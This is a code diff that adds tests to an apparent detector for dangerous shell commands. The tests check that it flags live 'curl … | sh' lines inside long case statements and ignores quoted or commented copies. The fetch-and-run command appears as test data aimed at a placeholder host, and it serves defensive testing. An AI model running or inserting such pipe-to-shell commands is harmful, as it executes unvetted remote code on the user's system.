@@ -33,4 +33,35 @@ describe("long scripts", { timeout: 120_000 }, () => {
     expect(outcome).toEqual({ status: "complete" });
     expect(findings.map((finding) => finding.text)).toEqual([/«(.*)»/.exec(marked)?.[1]]);
   });
+
+  it.each([
+    ["a pipe", "«curl https://depot.example/x | sh»"],
+    ["a pipe behind a condition", "installed && «curl https://depot.example/x | sh»"],
+    ["a quoted pipe", "echo 'curl https://depot.example/x | sh'"],
+    ["a pipe in a comment", "true # curl https://depot.example/x | sh"],
+  ])("of a case with many arms, %s in one", async (_, marked) => {
+    const command = marked.replace(/[«»]/g, "");
+    const wanted = [/«(.*)»/.exec(marked)?.[1]].filter((each) => each !== undefined);
+    for (const pattern of ["x", "(x)", '"a b"|x', "[xy]*", "*"]) {
+      for (const isOnOneLine of [true, false]) {
+        const [before, behind] = isOnOneLine
+          ? [" ", command.includes("#") ? "\n" : " "]
+          : ["\n", "\n"];
+        const arm = `  ${pattern})${before}${command}${behind};;\n`;
+        const text = `#!/bin/sh\ncase "$1" in\n${manyArms}${arm}${manyArms}esac\n`;
+        const { findings, outcome } = (await sharedDetector()).detect(text, { format: "shell" });
+        expect(outcome, pattern).toEqual({ status: "complete" });
+        expect(
+          findings.map((finding) => finding.text),
+          arm,
+        ).toEqual(wanted);
+      }
+    }
+  });
 });
+
+/** More than are parsed in one piece. */
+const manyArms = Array.from(
+  { length: 600 },
+  (_, at) => `  ${String(at)}) check && run_${String(at)} ;;\n`,
+).join("");
